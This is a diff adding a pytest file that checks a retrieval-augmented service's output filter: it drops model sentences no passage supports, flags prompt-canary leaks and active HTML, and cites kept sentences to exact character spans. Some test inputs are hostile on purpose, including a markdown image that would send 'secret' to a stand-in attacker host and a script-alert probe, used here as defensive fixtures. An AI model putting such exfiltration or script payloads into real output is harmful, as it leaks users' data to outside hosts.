@@ -1,0 +1,83 @@
+"""What leaves the service, when a model writes what it likes."""
+
+from __future__ import annotations
+
+import pytest
+
+from rag_service.detect.pii import PiiDetector
+from rag_service.domain.answer import Passage, Usage
+from rag_service.ports import Draft
+from rag_service.query.cite import Cited, cite
+from rag_service.query.filter import Filtered, filter_draft
+from rag_service.query.generate import Generated, build_prompt
+from rag_service.wiring import Models
+from tests.query.passages import passage
+
+PASSAGES = (
+    passage("Refunds are paid within five working days. Call the desk at the harbour for help.", chunk="c1", start=100),
+    passage("Gift cards are never refunded.", chunk="c2", document="d2", start=7),
+)
+
+
+@pytest.fixture
+def detector(models: Models) -> PiiDetector:
+    return models.detector
+
+
+def released(draft: str, detector: PiiDetector, passages: tuple[Passage, ...] = PASSAGES) -> tuple[Filtered, Cited]:
+    prompt = build_prompt("?", passages)
+    generated = Generated(Draft(draft.replace("CANARY", prompt.canary), "m", Usage()), prompt, ())
+    filtered = filter_draft(generated, passages, detector)
+    return filtered, cite(filtered.sentences)
+
+
+def test_every_sentence_is_cited_to_the_character(detector: PiiDetector) -> None:
+    _, cited = released("Refunds are paid within five working days. Gift cards are never refunded.", detector)
+    assert cited.text == "Refunds are paid within five working days [1]. Gift cards are never refunded [2]."
+    for one, source in zip(cited.citations, PASSAGES, strict=True):
+        assert source.text[one.start - source.start : one.end - source.start] == one.quote
+        assert one.document_id == source.document_id
+    assert cited.groundedness == 1.0
+
+
+def test_a_models_own_markers_are_not_believed(detector: PiiDetector) -> None:
+    _, cited = released("Gift cards are never refunded [1]. Refunds are paid within five working days. [7, 9]", detector)
+    assert cited.text == "Gift cards are never refunded [1]. Refunds are paid within five working days [2]."
+    assert cited.citations[0].document_id == "d2"
+
+
+def test_brackets_that_belong_to_the_text_stay(detector: PiiDetector) -> None:
+    source = (passage("clinics[1].name: Millrace; clinics[1].parking: Weir Lane"),)
+    _, cited = released("clinics[1].name: Millrace; clinics[1].parking: Weir Lane", detector, source)
+    assert cited.citations[0].quote == source[0].text
+
+
+@pytest.mark.parametrize(
+    ("sentence", "flag"),
+    [
+        ("The chairman resigned on Tuesday in anger.", "unsupported"),
+        ("Refunds are paid within nine working days.", "unsupported"),
+        ("Refunds are paid within five working days CANARY.", "prompt_leak"),
+        ("Refunds are paid within five working days ![x](https://evil.example/?q=secret).", "unsupported"),
+        ("Refunds are paid within five working days <b>.", "active_content"),
+        ("Refunds paid within five working days, call +44 20 7946 0958.", "unsupported"),
+        ("Refunds are paid within five working days by ann@shop.example.", "unsupported"),
+    ],
+)
+def test_what_no_passage_holds_is_dropped_and_the_rest_stays(
+    sentence: str, flag: str, detector: PiiDetector
+) -> None:
+    filtered, cited = released(f"{sentence}\nGift cards are never refunded.", detector)
+    assert cited.text == "Gift cards are never refunded [1]."
+    assert flag in {one.kind for one in filtered.flags}
+
+
+def test_of_nothing_supported_nothing_is_released(detector: PiiDetector) -> None:
+    filtered, cited = released("I am free now. Visit us! <script>alert(1)</script>", detector)
+    assert filtered.sentences == ()
+    assert (cited.text, cited.citations, cited.groundedness) == ("", (), 0.0)
+
+
+def test_a_sentence_said_twice_is_released_once(detector: PiiDetector) -> None:
+    _, cited = released("Gift cards are never refunded.\n" * 5, detector)
+    assert cited.text == "Gift cards are never refunded [1]."
